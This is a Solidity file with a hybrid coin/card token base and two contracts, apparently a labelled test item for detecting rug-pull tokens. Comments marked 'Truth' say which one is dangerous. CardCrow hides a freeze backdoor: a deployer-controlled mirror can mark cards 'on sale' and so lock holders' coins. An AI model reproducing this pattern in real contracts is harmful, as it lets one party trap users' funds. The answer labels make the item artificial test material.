// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title Half coin, half card: a whole coin in a wallet is a card, which comes and goes with it
/// @dev Seventh look, 30 November 2026, by somebody who had not read how the check works. Harmless by itself; contracts
/// and the deployer hold no cards
abstract contract SeventhHybrid {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event CardMoved(address indexed from, address indexed to, uint256 indexed id);

    uint8 public constant decimals = 18;
    uint256 public constant unit = 1 ether;
    uint256 public constant totalSupply = 1_000 ether;
    string public name;
    string public symbol;
    address private immutable _deployer = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(uint256 => address) public cardOwner;
    mapping(address => uint256[]) internal _cards;
    uint256[] private _pool;
    uint256 public cardsMade;

    constructor(string memory name_, string memory symbol_) {
        (name, symbol) = (name_, symbol_);
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function cardsOf(address account) external view returns (uint256[] memory) {
        return _cards[account];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    /// @dev A rule of an heir about a card that goes
    function _beforeCardLeaves(address, uint256) internal virtual {}

    function _transfer(address from, address to, uint256 value) private {
        require(to != address(0), "zero address");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        _settle(from);
        _settle(to);
    }

    function _settle(address account) private {
        if (account == _deployer || account.code.length > 0) return;
        uint256[] storage cards = _cards[account];
        uint256 due = balanceOf[account] / unit;
        while (cards.length > due) {
            uint256 id = cards[cards.length - 1];
            _beforeCardLeaves(account, id);
            cards.pop();
            _pool.push(id);
            delete cardOwner[id];
            emit CardMoved(account, address(0), id);
        }
        while (cards.length < due) {
            uint256 id = _pool.length > 0 ? _pool[_pool.length - 1] : ++cardsMade;
            if (_pool.length > 0) _pool.pop();
            cards.push(id);
            cardOwner[id] = account;
            emit CardMoved(address(0), account, id);
        }
    }
}

contract SeventhCardMirror {
    address private immutable _marketplace;
    string public baseUri = "ipfs://cards/";
    mapping(uint256 => bool) public isListed;

    constructor(address marketplace) {
        _marketplace = marketplace;
    }

    function list(uint256[] calldata ids, bool isOnSale) external {
        require(msg.sender == _marketplace, "Mirror: marketplace");
        for (uint256 i = 0; i < ids.length; i++) isListed[ids[i]] = isOnSale;
    }
}

/// @dev Truth: one person can rob today. The cards are shown by a mirror of the deployer's, who may call any card on
/// sale; a card on sale cannot go, so its coins cannot either.
contract CardCrow is SeventhHybrid("Card Crow", "CROW") {
    SeventhCardMirror public immutable mirror = new SeventhCardMirror(msg.sender);

    function _beforeCardLeaves(address, uint256 id) internal view override {
        require(!mirror.isListed(id), "Card is on sale");
    }
}

/// @dev Truth: harmless. Cards come and go with coins, and nobody has a say.
contract HeronHalves is SeventhHybrid("Heron Halves", "HALF") {
    function tokenURI(uint256 id) external view returns (string memory) {
        require(cardOwner[id] != address(0), "no such card");
        return string.concat("ipfs://herons/", id % 10 == 0 ? "rare" : "common", ".json");
    }
}
